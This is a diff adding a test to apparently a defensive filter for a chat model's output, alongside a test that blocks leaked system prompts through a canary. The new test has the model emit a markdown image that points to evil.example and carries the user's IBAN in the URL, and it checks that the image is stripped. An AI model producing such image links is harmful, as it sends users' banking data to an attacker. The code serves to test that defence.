@@ -180,3 +180,17 @@ def test_a_leaked_system_prompt_is_stopped_by_the_canary(
         read()
     assert "repeated confidential instructions" in str(error.value)
     assert "LS-CANARY" not in "".join(shown)
+
+
+def test_an_image_that_would_send_data_out_is_removed_from_the_answer(
+    client: openai.OpenAI, model_server: ScriptedChatServer
+) -> None:
+    model_server.enqueue("Erledigt. ![status](https://evil.example/p.png?d=<IBAN_1>)", chunk_size=4)
+    chunks = client.chat.completions.create(
+        model="buchhaltung",
+        messages=[{"role": "user", "content": f"Bitte an {IBAN} überweisen."}],
+        stream=True,
+    )
+    answer = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
+    assert answer.startswith("Erledigt. [image removed: evil.example]")
+    assert "DE89" not in answer and "https://evil" not in answer
